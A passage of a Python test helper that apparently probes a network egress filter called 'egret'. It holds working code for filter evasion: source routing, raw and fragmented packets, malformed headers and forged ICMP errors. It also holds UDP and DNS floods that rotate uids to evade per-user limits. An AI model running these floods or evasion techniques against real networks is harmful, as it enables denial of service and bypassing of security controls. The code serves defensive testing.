def xsk(iface, dstmac, src, dst, port):
    frame = ipv4_udp_frame(iface, dstmac, src, dst, port)
    names = os.listdir("/sys/class/net/%s/queues" % iface)
    count = max([int(n.split("-")[1]) + 1 for n in names if n[:3] in ("rx-", "tx-")] or [1])
    errors = []
    for q in range(count):
        try:
            if xsk_send(iface, q, frame):
                print(json.dumps({"sent": True, "queue": q}), flush=True)
                return
            errors.append("queue %d: not transmitted" % q)
        except OSError as e:
            errors.append("queue %d: %s" % (q, e))
    print(json.dumps({"sent": False, "detail": "; ".join(errors)}), flush=True)


def result(fn):
    try:
        fn()
        print(json.dumps({"sent": True}), flush=True)
    except OSError as e:
        print(json.dumps({"sent": False, "detail": "%s: %s" % (type(e).__name__, e)}), flush=True)


def source_route(dst, port, first):
    def go():
        if ":" in dst:
            s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
            segs = [socket.inet_pton(socket.AF_INET6, a) for a in (dst, first)]
            # Segment routing header (type 4): segments in reverse order,
            # segments left = the index of the first hop.
            srh = struct.pack("!BBBBBBH", 0, 2 * len(segs), 4, len(segs) - 1, len(segs) - 1, 0, 0) + b"".join(segs)
            s.setsockopt(socket.IPPROTO_IPV6, 57, srh)  # IPV6_RTHDR
        else:
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            # LSRR: type 131, length, pointer 4, the route; NOP-padded to 4n.
            opt = struct.pack("!BBB", 131, 3 + 4, 4) + socket.inet_aton(first) + b"\x01"
            s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, opt)
        s.sendto(MARKER, (dst, port))
    result(go)


def bindtodev(dev, dst, port):
    def go():
        s = socket.socket(socket.AF_INET6 if ":" in dst else socket.AF_INET, socket.SOCK_DGRAM)
        s.setsockopt(socket.SOL_SOCKET, 25, dev.encode())  # SO_BINDTODEVICE
        s.sendto(MARKER, (dst, port))
    result(go)


def rawproto(dst, proto):
    def go():
        fam = socket.AF_INET6 if ":" in dst else socket.AF_INET
        s = socket.socket(fam, socket.SOCK_RAW, proto)
        s.sendto(MARKER + b"\0" * 20, (dst, 0))
    result(go)


def udplite(dst, port):
    def go():
        fam = socket.AF_INET6 if ":" in dst else socket.AF_INET
        s = socket.socket(fam, socket.SOCK_DGRAM, 136)
        s.sendto(MARKER, (dst, port))
    result(go)


def frag(src, dst, port, parts):
    """Hand-made fragments of one UDP datagram whose payload is 8 bytes of
    padding then the marker: the first fragment holds the UDP header and
    the padding, the later one (offset 8) the marker."""
    body = b"\0" * 8 + MARKER
    udp = struct.pack("!HHHH", 4242, port, 8 + len(body), 0) + body
    first, later = udp[:16], udp[16:]
    ident = os.getpid() & 0xFFFF
    want = {"all": (True, True), "first": (True, False), "later": (False, True)}[parts]

    def go():
        if ":" in dst:
            s6, d6 = socket.inet_pton(socket.AF_INET6, src), socket.inet_pton(socket.AF_INET6, dst)
            pseudo = s6 + d6 + struct.pack("!IxxxB", len(udp), 17)
            whole = udp[:6] + struct.pack("!H", checksum(pseudo + udp) or 0xFFFF) + udp[8:]
            f0, f1 = whole[:16], whole[16:]
            s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
            for piece, off, more, go_ in ((f0, 0, 1, want[0]), (f1, 16, 0, want[1])):
                if not go_:
                    continue
                fh = struct.pack("!BBHI", 17, 0, (off // 8) << 3 | more, ident)
                ip = struct.pack("!IHBB16s16s", 6 << 28, len(fh) + len(piece), 44, 64, s6, d6)
                s.sendto(ip + fh + piece, (dst, 0))
        else:
            s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
            for piece, off, more, go_ in ((first, 0, 1, want[0]), (later, 16, 0, want[1])):
                if not go_:
                    continue
                flags = (more << 13) | (off // 8)
                ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(piece), ident, flags, 64, 17, 0,
                                 socket.inet_aton(src), socket.inet_aton(dst))
                ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
                s.sendto(ip + piece, (dst, 0))
    result(go)


def tfo(dst, port):
    technique = "tfo"
    fam = socket.AF_INET6 if ":" in dst else socket.AF_INET
    req = b"GET / HTTP/1.1\r\nHost: blocked.test\r\nConnection: close\r\n\r\n" if port in (80, 443) else b"x\n"
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.settimeout(TIMEOUT)
    got = b""
    try:
        s.sendto(req, 0x20000000, (dst, port))  # MSG_FASTOPEN
        while len(got) < 4096:
            d = s.recv(4096)
            if not d:
                break
            got += d
    except OSError as e:
        return out(technique, b"hello from" in got or b"echo:" in got, "%s: %s; got %r" % (type(e).__name__, e, got[:60]))
    out(technique, b"hello from" in got or b"echo:" in got, "got %r" % got[:60])


def icmp_error(dst, inner_src, inner_sport, inner_dst, inner_dport):
    def go():
        quoted_udp = struct.pack("!HHHH", inner_sport, inner_dport, 8 + len(MARKER), 0) + MARKER
        if ":" in dst:
            s6, d6 = socket.inet_pton(socket.AF_INET6, inner_src), socket.inet_pton(socket.AF_INET6, inner_dst)
            inner = struct.pack("!IHBB16s16s", 6 << 28, len(quoted_udp), 17, 64, s6, d6) + quoted_udp
            s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
            # type 1 (unreachable) code 4 (port unreachable); checksum by the kernel.
            s.sendto(struct.pack("!BBHI", 1, 4, 0, 0) + inner, (dst, 0))
        else:
            inner = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(quoted_udp), 1, 0, 64, 17, 0,
                                socket.inet_aton(inner_src), socket.inet_aton(inner_dst))
            inner = inner[:10] + struct.pack("!H", checksum(inner)) + inner[12:] + quoted_udp
            msg = struct.pack("!BBHI", 3, 3, 0, 0) + inner
            msg = msg[:2] + struct.pack("!H", checksum(msg)) + msg[4:]
            s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
            s.sendto(msg, (dst, 0))
    result(go)


def switch_server(addr, port):
    import threading
    fam = socket.AF_INET6 if ":" in addr else socket.AF_INET
    ls = socket.socket(fam, socket.SOCK_STREAM)
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind((addr, port))
    ls.listen(64)

    def serve(c):
        try:
            c.settimeout(10)
            data = b""
            while b"\r\n\r\n" not in data and len(data) < 65536:
                d = c.recv(4096)
                if not d:
                    return
                data += d
            c.sendall(b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n")
            rest = data.split(b"\r\n\r\n", 1)[1]
            if rest:
                c.sendall(b"echo:" + rest)
            while True:
                d = c.recv(4096)
                if not d:
                    return
                c.sendall(b"echo:" + d)
        except OSError:
            pass
        finally:
            c.close()

    print("ready", flush=True)
    while True:
        c, _ = ls.accept()
        threading.Thread(target=serve, args=(c,), daemon=True).start()


def capture_http(addr, port):
    fam = socket.AF_INET6 if ":" in addr else socket.AF_INET
    ls = socket.socket(fam, socket.SOCK_STREAM)
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind((addr, port))
    ls.listen(16)
    print("ready", flush=True)
    while True:
        c, _ = ls.accept()
        try:
            c.settimeout(5)
            data = b""
            while b"\r\n\r\n" not in data and len(data) < 65536:
                d = c.recv(4096)
                if not d:
                    break
                data += d
            head = data.split(b"\r\n\r\n", 1)[0]
            print(json.dumps({"head": head.decode("latin-1")}), flush=True)
            body = b'{"created":0,"results":[]}'
            c.sendall(b"HTTP/1.1 201 Created\r\nContent-Type: application/json\r\nContent-Length: %d\r\nConnection: close\r\n\r\n" % len(body) + body)
        except OSError:
            pass
        c.close()


def exthdr(dst, port, proto, which):
    technique = "exthdr-%s-%s" % (proto, which)
    # PadN filling the 8 bytes of an options header: next header and length
    # are filled in by the kernel.
    opts = bytes([0, 0, 1, 4, 0, 0, 0, 0])
    kind = socket.SOCK_STREAM if proto == "tcp" else socket.SOCK_DGRAM
    s = socket.socket(socket.AF_INET6, kind)
    s.settimeout(TIMEOUT)
    try:
        if which in ("hbh", "both"):
            s.setsockopt(socket.IPPROTO_IPV6, 54, opts)  # IPV6_HOPOPTS
        if which in ("dst", "both"):
            s.setsockopt(socket.IPPROTO_IPV6, 59, opts)  # IPV6_DSTOPTS
        s.connect((dst, port))
    except OSError as e:
        return out(technique, False, "%s: %s" % (type(e).__name__, e))
    ok, detail = echo_back(s, b"x\n")
    out(technique, ok, detail)


def log_flood(host, port, seconds):
    s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM)
    s.setblocking(False)
    n, end = 0, time.time() + seconds
    while time.time() < end:
        try:
            s.sendto(b"flood", (host, port))
            n += 1
        except OSError:
            n += 1
    print(json.dumps({"sent": n}), flush=True)


def owned_udp(host, uid):
    """A UDP socket owned by `uid` (its inode's owner is the fsuid at
    socket()), made as root and handed back to root."""
    os.seteuid(uid)
    try:
        s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM)
    finally:
        os.seteuid(0)
    s.setblocking(False)
    return s


def owner_fill(host, port, first, count):
    n = 0
    for uid in range(first, first + count):
        s = owned_udp(host, uid)
        try:
            s.sendto(b"fill", (host, port))
        except OSError:
            pass
        n += 1
        s.close()
    print(json.dumps({"sent": n}), flush=True)


def owners_flood(host, port, first, count, seconds):
    socks = [owned_udp(host, uid) for uid in range(first, first + count)]
    n, end = 0, time.time() + seconds
    while time.time() < end:
        for s in socks:
            try:
                s.sendto(b"flood", (host, port))
            except OSError:
                pass
            n += 1
    print(json.dumps({"sent": n}), flush=True)


def fresh_uids_flood(host, port, first, count, seconds):
    """A fresh socket per datagram (closed once sent), each under the next
    of `count` uids (seteuid around socket(), CAP_SETUID): every datagram
    comes from a source port egret has not seen, and no uid sends more
    than 1/count of them."""
    n, i, end = 0, 0, time.time() + seconds
    print("ready", flush=True)
    while time.time() < end:
        s = owned_udp(host, first + i % count)
        i += 1
        try:
            s.sendto(b"flood", (host, port))
            n += 1
        except OSError:
            pass
        s.close()
    print(json.dumps({"sent": n, "tried": i}), flush=True)


def dns_flood(server, port, zone, seconds, count=1):
    import random
    import resource
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    fam = socket.AF_INET6 if ":" in server else socket.AF_INET

    def fresh():
        s = socket.socket(fam, socket.SOCK_DGRAM)
        s.setblocking(False)
        return s

    socks = [fresh() for _ in range(max(count, 1))]
    print("ready", flush=True)
    n, got, i, end = 0, 0, 0, time.time() + seconds
    while time.time() < end:
        name = "%08x.%s" % (random.getrandbits(32), zone)
        q = struct.pack("!HHHHHH", random.getrandbits(16), 0x0100, 1, 0, 0, 0) + dns_name(name) + b"\x00\x01\x00\x01"
        s = fresh() if count == 0 else socks[i % len(socks)]
        i += 1
        try:
            s.sendto(q, (server, port))
            n += 1
        except OSError:
            time.sleep(0.001)
        if count == 0:
            s.close()
            continue
        try:
            while True:
                s.recv(2048)
                got += 1
        except OSError:
            pass
    print(json.dumps({"sent": n, "answers": got}), flush=True)


def dns_flood_uids(server, port, zone, seconds, first, count):
    """dns_flood (one socket, allowed names) in `count` children, child i
    as uid first+i (CAP_SETUID): prints "ready", then each child's totals."""
    import ctypes
    pids = []
    for i in range(count):
        pid = os.fork()
        if pid == 0:
            ctypes.CDLL(None).prctl(1, 9)  # PR_SET_PDEATHSIG, SIGKILL
            os.setgroups([])
            os.setgid(first + i)
            os.setuid(first + i)
            sys.stdout = open(os.devnull, "w")
            dns_flood(server, port, zone, seconds, 1)
            os._exit(0)
        pids.append(pid)
    print("ready", flush=True)
    for pid in pids:
        os.waitpid(pid, 0)
    print(json.dumps({"children": count}), flush=True)


def odd_packet(src, dst, kind):
    def v4(proto, options, payload):
        ihl = 5 + len(options) // 4
        ip = struct.pack("!BBHHHBBH4s4s", 0x40 | ihl, 0, ihl * 4 + len(payload), 7, 0, 64, proto, 0,
                         socket.inet_aton(src), socket.inet_aton(dst)) + options
        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        s.sendto(ip + payload, (dst, 0))

    def v6(first_next, ext, payload):
        s6, d6 = socket.inet_pton(socket.AF_INET6, src), socket.inet_pton(socket.AF_INET6, dst)
        ip = struct.pack("!IHBB16s16s", 6 << 28, len(ext) + len(payload), first_next, 64, s6, d6)
        s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
        s.sendto(ip + ext + payload, (dst, 0))

    udp = struct.pack("!HHHH", 4242, 7000, 8 + len(MARKER), 0) + MARKER

    def go():
        if kind == "v4-options":
            # NOPs, then a timestamp option (68) claiming 40 bytes with a
            # pointer past its end.
            opts = b"\x01" * 4 + bytes([68, 36, 200, 0]) + b"\0" * 32
            v4(17, opts, udp)
        elif kind == "v4-short-tcp":
            v4(6, b"", struct.pack("!HH", 4242, 7000))
        elif kind == "v4-tcp-offset":
            tcp = struct.pack("!HHIIBBHHH", 4242, 7000, 1, 0, 15 << 4, 0x02, 1024, 0, 0)
            v4(6, b"", tcp)
        elif kind == "v6-chain":
            ext = b""
            for i in range(30):
                nxt = 60 if i < 29 else 17
                ext += bytes([nxt, 0, 1, 4, 0, 0, 0, 0])
            v6(60, ext, udp)
        elif kind == "v6-bad-len":
            v6(60, bytes([17, 200, 1, 4, 0, 0, 0, 0]), udp)
        elif kind == "v6-no-next":
            v6(59, b"", MARKER)
        else:
            raise OSError("unknown kind %s" % kind)
    result(go)


def framing_server(addr, port):
    import threading
    fam = socket.AF_INET6 if ":" in addr else socket.AF_INET
    ls = socket.socket(fam, socket.SOCK_STREAM)
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind((addr, port))
    ls.listen(64)

    def serve(c):
        buf = b""
        try:
            c.settimeout(10)
            for _ in range(20):
                while b"\r\n\r\n" not in buf:
                    d = c.recv(4096)
                    if not d:
                        return
                    buf += d
                head, buf = buf.split(b"\r\n\r\n", 1)
                fields = {}
                for line in head.split(b"\r\n")[1:]:
                    k, _, v = line.partition(b":")
                    fields[k.strip().lower()] = v.strip(b" \t")
                if fields.get(b"transfer-encoding", b"").lower() == b"chunked":
                    while True:
                        while b"\r\n" not in buf:
                            buf += c.recv(4096)
                        size_line, buf = buf.split(b"\r\n", 1)
                        size = int(size_line.split(b";")[0], 16)
                        while len(buf) < size + 2:
                            buf += c.recv(4096)
                        buf = buf[size + 2:]
                        if size == 0:
                            break
                else:
                    cl = fields.get(b"content-length", b"")
                    n = int(cl) if cl.isdigit() else 0
                    while len(buf) < n:
                        buf += c.recv(4096)
                    buf = buf[n:]
                body = b"hello for " + fields.get(b"host", b"?") + b"\n"
                c.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
        except (OSError, ValueError):
            pass
        finally:
            c.close()

    print("ready", flush=True)
    while True:
        c, _ = ls.accept()
        threading.Thread(target=serve, args=(c,), daemon=True).start()


def retried(fn, *args):
    """Runs a technique again (a few times, bounded) when a port it picked
    was taken by another test in between: the attempt never happened."""
    for attempt in range(5):
        try:
            return fn(*args)
        except OSError as e:
            if e.errno != 98 or attempt == 4:  # EADDRINUSE
                raise


def main():
    a = sys.argv
    if a[1] == "rawproto":
        return rawproto(a[2], int(a[3]))
    if a[1] == "udplite":
        return udplite(a[2], int(a[3]))
    if a[1] == "frag":
        return frag(a[2], a[3], int(a[4]), a[5])
    if a[1] == "exthdr":
        return exthdr(a[2], int(a[3]), a[4], a[5])
    if a[1] == "log-flood":
        return log_flood(a[2], int(a[3]), float(a[4]))
    if a[1] == "owner-fill":
        return owner_fill(a[2], int(a[3]), int(a[4]), int(a[5]))
    if a[1] == "owners-flood":
        return owners_flood(a[2], int(a[3]), int(a[4]), int(a[5]), float(a[6]))
    if a[1] == "fresh-uids-flood":
        return fresh_uids_flood(a[2], int(a[3]), int(a[4]), int(a[5]), float(a[6]))
    if a[1] == "dns-flood-uids":
        return dns_flood_uids(a[2], int(a[3]), a[4], float(a[5]), int(a[6]), int(a[7]))
    if a[1] == "dns-flood":
        return dns_flood(a[2], int(a[3]), a[4], float(a[5]), int(a[6]) if len(a) > 6 else 1)
    if a[1] == "odd-packet":
        return odd_packet(a[2], a[3], a[4])
    if a[1] == "capture-http":
        return capture_http(a[2], int(a[3]))
    if a[1] == "framing-server":
        return framing_server(a[2], int(a[3]))
    if a[1] == "switch-server":
        return switch_server(a[2], int(a[3]))
    if a[1] == "tfo":
        return tfo(a[2], int(a[3]))
    if a[1] == "icmp-error":
        return icmp_error(a[2], a[3], int(a[4]), a[5], int(a[6]))
    if sys.argv[1] == "source-route":
        return source_route(sys.argv[2], int(sys.argv[3]), sys.argv[4])
    if sys.argv[1] == "bindtodev":
        return bindtodev(sys.argv[2], sys.argv[3], int(sys.argv[4]))
    if sys.argv[1] == "rawframe":
        a = sys.argv
        return rawframe(a[2], a[3], a[4], a[5], int(a[6]), int(a[7]) if len(a) > 7 else 0)
    if sys.argv[1] == "xsk":
        a = sys.argv
        return xsk(a[2], a[3], a[4], a[5], int(a[6]))
    if sys.argv[1] == "mcloop":
        return mcloop(sys.argv[2], int(sys.argv[3]), sys.argv[4])
    if sys.argv[1] == "hold-tcp":
        mode = sys.argv[5] if len(sys.argv) > 5 else ""
        churn = mode == "churn"
        return hold_tcp(sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), churn or mode == "trickle", churn=churn)
    if sys.argv[1] == "head-flood":
        a = sys.argv
        return head_flood(a[2], int(a[3]), int(a[4]), float(a[5]))
    if sys.argv[1] == "hold-tcp-uids":
        a = sys.argv
        return hold_tcp_uids(a[2], int(a[3]), int(a[4]), int(a[5]), int(a[6]))
    if sys.argv[1] == "rst-flood":
        a = sys.argv
        return rst_flood(a[2], int(a[3]), int(a[4]), float(a[5]))
    if sys.argv[1] == "nd":
        hbh = len(sys.argv) > 6 and sys.argv[6] == "hbh"
        return nd(sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), int(sys.argv[5]), hbh)
    if sys.argv[1] in ("hostile-tcp", "hostile-udp"):
        return hostile(sys.argv[1][8:], sys.argv[2], int(sys.argv[3]))
    if sys.argv[1] == "dns-forge":
        a = sys.argv
        return dns_forge(a[2], int(a[3]), a[4], a[5], float(a[6]))
    if sys.argv[1] == "dns-multi":
        return dns_multi(sys.argv[2], sys.argv[3:])
    if sys.argv[1] == "rcvmark":
        return rcvmark(sys.argv[2], int(sys.argv[3]))
    if sys.argv[1] == "acceptmark":
        return acceptmark(sys.argv[2], int(sys.argv[3]))
    technique, remote, port, local = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
    payload = (sys.argv[5] if len(sys.argv) > 5 else "x").encode()
    if technique == "udp-freebind6":
        retried(udp_forged, technique, socket.AF_INET6, socket.IPPROTO_IPV6, IPV6_FREEBIND, remote, port, local, payload)
    elif technique == "udp-transparent4":
        retried(udp_forged, technique, socket.AF_INET, socket.IPPROTO_IP, IP_TRANSPARENT, remote, port, local, payload)
    elif technique == "tcp-fullqueue6":
        retried(tcp_fullqueue6, remote, port, local, payload)
    elif technique == "tcp-rawsyn4":
        retried(tcp_rawsyn4, remote, port, local, payload)
    else:
        sys.exit("unknown technique %s" % technique)


if __name__ == "__main__":
    main()
